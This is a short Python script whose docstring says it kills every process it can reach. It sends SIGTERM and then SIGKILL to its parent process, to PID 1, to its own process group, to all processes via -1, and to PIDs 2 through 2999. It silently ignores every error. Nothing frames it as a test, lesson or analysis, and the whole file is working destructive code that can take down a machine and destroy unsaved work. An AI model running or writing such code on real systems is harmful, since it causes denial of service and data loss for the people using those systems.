"""Kills every process it can reach: by number, its parent, its group, all at once."""

import os
import signal

for target in (os.getppid(), 1, 0, -1, *range(2, 3000)):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if target != os.getpid():
                os.kill(target, number)
        except OSError:
            pass
